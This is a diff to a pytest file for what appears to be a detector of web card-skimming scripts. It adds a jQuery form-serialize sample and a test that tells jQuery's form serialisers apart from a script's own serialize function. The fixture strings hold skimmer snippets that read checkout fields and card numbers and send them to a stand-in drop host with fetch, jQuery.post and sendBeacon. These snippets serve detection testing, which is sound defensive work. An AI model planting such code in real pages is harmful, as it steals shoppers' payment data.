@@ -5,6 +5,9 @@ from __future__ import annotations
 
 import pytest
 
+from skimscan.analyze.analyzer import extract_facts
+from skimscan.analyze.parse import run_deep
+
 from .conftest import findings_of
 
 DROP = "https://metrics-drop.top/c"
@@ -75,6 +78,8 @@ FLOWS = {
                             f"fetch('{DROP}', {{method: 'POST', body: JSON.stringify(p)}});",
     "number made of the card": f"var n = +document.querySelector('#cc_number').value;\n"
                                f"fetch('{DROP}?n=' + n);",
+    "jQuery form serialize": f"jQuery('#pay').on('click', function () {{\n"
+                             f"  jQuery.post('{DROP}', jQuery('form#checkout').serialize()); }});",
     "form sweep": f"var d = [];\n"
                   f"document.querySelectorAll('input, select').forEach(function (i) "
                   f"{{ d.push(i.value); }});\n"
@@ -162,3 +167,17 @@ def test_listener_events_from_a_list(analyze) -> None:  # type: ignore[no-untype
                      f"navigator.sendBeacon('{DROP}', e.target.value); }}); }});")
     found = findings_of(report, "card-keylogger")
     assert found and found[0].evidence["host"] == "metrics-drop.top", report.findings
+
+
+@pytest.mark.parametrize("call, reads_form", [
+    ("jQuery('form#checkout').serialize()", True),
+    ("$(this.form).serializeArray()", True),
+    ("recorder.serialize(document.documentElement, 0)", False),  # a DOM snapshot of its own
+    ("serialize(document.documentElement, 0)", False),
+])
+def test_only_jquerys_form_serialisers_read_the_form(call: str, reads_form: bool) -> None:
+    """jQuery's serialisers take no arguments; a script's own `serialize(node, depth)` is not
+    one of them, whether called as a method or a function."""
+    raw = run_deep(lambda: extract_facts(f"var s = {call};\n"
+                                         f"navigator.sendBeacon('{DROP}', JSON.stringify(s));"))
+    assert any(f.kind == "form-serialize" for f in raw.facts) is reads_form
